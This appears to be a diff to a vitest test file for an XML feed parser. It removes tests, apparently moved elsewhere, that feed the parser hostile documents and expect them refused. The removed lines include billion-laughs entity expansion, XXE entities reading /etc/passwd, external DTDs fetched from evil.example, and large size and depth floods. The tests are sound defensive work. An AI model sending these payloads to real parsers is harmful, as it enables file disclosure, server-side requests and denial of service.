@@ -1,65 +1,9 @@
-// XML of feeds: what its tree holds, and hostile documents, which end early with a code.
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { describe, expect, it, onTestFinished } from 'vitest';
+// XML of feeds: what its tree holds. Declarations and floods stand in test/threats.
+import { describe, expect, it } from 'vitest';
 import { parseXml, textOf } from '../../../../main/acquire/feeds/xml-tree.ts';
 import { atom, catalogueOf, firstEntryOf, refusalOf, rss } from './read-text.ts';
 
-const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
-
 describe('a hostile document', () => {
-  it.each([
-    ['entities in entities', `<!DOCTYPE feed [<!ENTITY l0 "lol">${entities}]><feed>&l9;</feed>`],
-    ['an entity of a file', '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><title>&x;</title></feed>'],
-    ['a declaration from elsewhere', '<!DOCTYPE feed SYSTEM "https://evil.example/feed.dtd"><feed/>'],
-    ['a parameter entity', '<!DOCTYPE feed [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]><feed/>'],
-    ['a declaration in small letters', '<!doctype feed []><feed/>'],
-    [
-      'a declaration behind the prolog',
-      '<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss><rss><channel><title>x</title></channel></rss>',
-    ],
-    ['a declaration inside', '<feed xmlns="http://www.w3.org/2005/Atom"><!DOCTYPE x><title>x</title></feed>'],
-    ['many declarations', `${'<!DOCTYPE x [<!ENTITY a "b">]>'.repeat(100_000)}<feed/>`],
-    ['entities under the name of a page', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>'],
-  ])('with %s is refused for its declaration', (_, body) => {
-    const document = body.startsWith('<?xml') ? body : `<?xml version="1.0"?>${body}`;
-    expect(refusalOf(document).code).toBe('source/doctype');
-  });
-
-  it('asks nobody for anything', async () => {
-    let requests = 0;
-    const server = createServer((_, response) => {
-      requests += 1;
-      response.end('x');
-    });
-    onTestFinished(() => void server.close());
-    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
-    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
-    for (const kind of ['SYSTEM', 'PUBLIC "x"']) {
-      const declared = `<!DOCTYPE feed ${kind} "${address}dtd" [<!ENTITY x SYSTEM "${address}x">]><feed>&x;</feed>`;
-      expect(refusalOf(declared).code).toBe('source/doctype');
-    }
-    const quiet = atom(
-      `<link rel="next" href="${address}"/><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${address}"/>`,
-    );
-    expect(catalogueOf(`<?xml-stylesheet href="${address}"?>${quiet.replace(/<\?xml.*?\?>/, '')}`).paging.next).toBe(address);
-    await new Promise((resolve) => void setTimeout(resolve, 50));
-    expect(requests).toBe(0);
-  });
-
-  it.each([
-    ['3,000,000 references in one text', 'references', rss(`<description>${'&#65;'.repeat(3_000_000)}</description>`)],
-    ['1,100,000 references in many texts', 'references', rss(`<x>${'&#x41;'.repeat(100)}</x>`.repeat(11_000))],
-    ['500,000 references in an attribute', 'references', rss(`<x a="${'&#x41;'.repeat(500_000)}"/>`)],
-    ['500,000 attributes', 'references', `<feed ${Array.from({ length: 500_000 }, (_, index) => `a${index}=""`).join(' ')}/>`],
-    ['1,100,000 elements', 'elements', rss('<x/>'.repeat(1_100_000))],
-    ['300 levels', 'depth', rss('<x>'.repeat(300) + '</x>'.repeat(300))],
-    ['1,000,000 levels that never close', 'depth', '<feed>'.padEnd(900_000, '<x>')],
-    ['20 MB', 'bytes', rss(`<description>${'x'.repeat(20_000_000)}</description>`)],
-  ])('of %s is refused as too large', (_, reason, text) => {
-    expect(refusalOf(text)).toEqual({ code: 'source/too-large', detail: { reason } });
-  });
-
   it('may not use names for what nobody declared', () => {
     expect(refusalOf(rss('<description>&xxe;</description>'))).toMatchObject({ code: 'source/bad-feed' });
     expect(refusalOf(rss('<description>&__proto__;</description>')).code).toBe('source/bad-feed');
